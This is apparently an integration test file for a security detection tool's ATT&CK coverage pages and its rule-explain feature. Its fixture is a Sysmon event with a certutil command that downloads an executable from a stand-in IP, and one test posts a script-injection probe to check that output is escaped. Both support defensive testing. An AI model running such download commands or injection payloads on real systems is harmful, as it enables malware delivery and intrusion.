//! The rules' coverage of ATT&CK, and events tried on a rule.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::harness::{World, everywhere};

const CERTUTIL: &str = r#"{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "ws-01.example.org", "Image": "C:\\Windows\\System32\\certutil.exe", "OriginalFileName": "CertUtil.exe", "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe"}"#;

async fn certutil(world: &World) -> String {
    let rules = world.observer.get("/api/v1/rules").await.expect(200);
    let rules = rules["rules"].as_array().unwrap();
    let rule =
        rules.iter().find(|rule| rule["file"].as_str().unwrap().contains("certutil_download")).unwrap();
    rule["id"].as_str().unwrap().to_owned()
}

async fn read(world: &World, path: &str) -> String {
    let (status, page) = world.observer.page(path).await;
    assert_eq!(status, StatusCode::OK, "{path}: {page}");
    page
}

#[tokio::test]
async fn coverage_shows_tactics_in_order_with_their_rules_and_alerts() {
    everywhere(|world| async move {
        let page = read(&world, "/rules/coverage").await;
        let order: Vec<usize> = domain::attack::Tactic::ALL
            .iter()
            .map(|tactic| page.find(&format!("id=\"tactic-{tactic}\"")).unwrap())
            .collect();
        assert!(order.is_sorted(), "the tactics stand in ATT&CK's order");
        assert!(page.contains("href=\"/rules?q=T1105\""), "a cell leads to its rules");
        assert!(!page.contains("/?status=all&amp;q="), "nothing has fired yet");
        assert!(!page.contains("no rule"), "gaps are asked for");
        assert!(read(&world, "/rules/coverage?show=all").await.contains(" · no rule"));
        let windows = read(&world, "/rules/coverage?source=windows").await;
        assert!(windows.contains("T1105") && windows.len() < page.len());
        assert!(read(&world, "/rules/coverage?source=nothing").await.contains("No technique is covered"));
        assert!(read(&world, "/rules").await.contains("href=\"/rules/coverage\""));

        world.responder.send_file("certutil.jsonl", CERTUTIL).await.expect(201);
        let page = read(&world, "/rules/coverage?shade=alerts").await;
        assert!(page.contains("/?status=all&amp;q=T1105"), "a cell leads to its alerts");
    })
    .await;
}

#[tokio::test]
async fn the_layer_is_for_the_navigator() {
    everywhere(|world| async move {
        let layer = world.observer.get("/rules/coverage/layer").await.expect(200);
        assert_eq!(layer["versions"]["layer"], "4.5");
        let techniques = layer["techniques"].as_array().unwrap();
        assert!(
            techniques.iter().any(|one| one["techniqueID"] == "T1105" && one["score"].as_u64() > Some(0))
        );
        let windows = world.observer.get("/rules/coverage/layer?source=windows").await.expect(200);
        assert!(windows["techniques"].as_array().unwrap().len() < techniques.len());
        assert_eq!(windows["name"], "Rules of Watchbell for windows");
    })
    .await;
}

#[tokio::test]
async fn an_event_tried_on_a_rule_is_explained_and_not_kept() {
    everywhere(|world| async move {
        let id = certutil(&world).await;
        let path = format!("/api/v1/rules/{id}/explain");
        let told = world.observer.post(&path, json!({ "event": CERTUTIL })).await.expect(200);
        assert_eq!(told["fires"], true, "{told}");
        let bare = CERTUTIL.replace("SourceName", "x").replace("Channel", "y").replace("EventID", "z");
        let told = world.observer.post(&path, json!({ "event": bare })).await.expect(200);
        assert_eq!(told["fires"], false);
        assert!(
            told["reasons"][0].as_str().unwrap().starts_with("The rule looks at product windows"),
            "{told}"
        );
        let told =
            world.observer.post(&path, json!({ "event": bare, "assume_source": true })).await.expect(200);
        assert_eq!(told["fires"], true);
        for (event, reason) in [("", "Paste an event first"), ("{", ""), (&*"x".repeat(300 << 10), "256 KiB")]
        {
            let refused = world.observer.post(&path, json!({ "event": event })).await.expect(422);
            assert!(refused["detail"].as_str().unwrap().contains(reason), "{refused}");
        }
        world.observer.post("/api/v1/rules/none/explain", json!({ "event": CERTUTIL })).await.expect(404);

        let page = format!("/rules/{id}");
        assert!(read(&world, &page).await.contains("Try an event"));
        let (status, fired) = world.observer.form(&page, &[("event", CERTUTIL)]).await;
        assert_eq!(status, StatusCode::OK);
        assert!(fired.contains("The rule fires") && fired.contains("data-holds=\"true\""));
        assert!(
            fired.contains("http://203.0.113.9/a.exe a.exe&quot;}</textarea>"),
            "what was typed is still there"
        );
        let hostile = r#"{"Image": "<script>alert(1)</script>", "CommandLine": "urlcache"}"#;
        let (_, shown) = world.observer.form(&page, &[("event", hostile), ("assume", "yes")]).await;
        assert!(shown.contains("The rule does not fire") && !shown.contains("<script>alert"), "{shown}");
        let (status, empty) = world.observer.form(&page, &[("event", " ")]).await;
        assert_eq!(status, StatusCode::OK);
        assert!(empty.contains("Paste an event first"));

        let deliveries: Value = world.observer.get("/api/v1/deliveries").await.expect(200);
        assert_eq!(deliveries["items"].as_array().unwrap().len(), 0, "nothing was kept");
    })
    .await;
}

#[tokio::test]
async fn a_stored_event_is_explained_from_its_alert() {
    everywhere(|world| async move {
        world.responder.send_file("certutil.jsonl", CERTUTIL).await.expect(201);
        let id = certutil(&world).await;
        let alert = read(&world, "/alerts/ALR-1").await;
        let link = format!("/rules/{id}?event=EVT-1");
        assert!(alert.contains(&format!("{link}#try")), "{}", world.store);
        let page = read(&world, &link).await;
        assert!(page.contains("The rule fires") && page.contains("-urlcache"), "{page}");
        let (status, _) = world.observer.page(&format!("/rules/{id}?event=EVT-99")).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    })
    .await;
}
